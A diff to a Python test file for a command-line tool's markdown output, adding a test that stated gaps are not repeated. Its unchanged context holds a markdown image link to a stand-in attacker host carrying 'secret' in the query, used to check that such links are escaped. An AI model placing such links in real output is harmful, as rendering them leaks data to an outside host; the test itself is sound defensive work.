@@ -13,6 +13,7 @@ from markdown_it import MarkdownIt
 from graph.cli import main
 from graph.commands.output import format_json, print_markdown
 from graph.display.markdown_escaping import MAX_PARSED_CHARS, escape_active_markdown
+from graph.display.summary import format_answer
 
 HIDDEN = {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"}
 STEERING = "\x7f\x9b\u202e\u2066\u200b\u061c\U000e0041\ufe0f"
@@ -127,3 +128,9 @@ def test_an_answer_that_is_written_loads_nothing(capsys: pytest.CaptureFixture[s
     print_markdown("Prices rose. ![ok](http://evil.test/?q=secret)")
 
     assert capsys.readouterr().out == "Prices rose. \\![ok](http://evil.test/?q=secret)\n"
+
+
+def test_a_gap_that_the_answer_states_is_not_told_twice() -> None:
+    shown = format_answer({"text": "Nothing is known.\n\n- no row", "gaps": ["no row", "no map"]})
+
+    assert (shown.count("no row"), shown.count("no map")) == (1, 1)
